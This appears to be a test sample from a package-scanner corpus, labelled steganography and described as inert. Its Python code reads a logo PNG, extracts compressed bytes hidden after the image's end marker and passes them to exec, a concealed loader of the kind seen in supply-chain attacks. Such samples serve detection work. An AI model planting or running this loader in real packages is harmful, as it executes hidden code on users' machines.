# pkgguard corpus 050 (steganography), modelled on [telnyx]; inert, never run.
import os
import zlib

ICON = os.path.join(os.path.dirname(__file__), "assets", "logo.png")
data = open(ICON, "rb").read()
hidden = data.split(b"IEND")[1][4:]
exec(zlib.decompress(hidden))
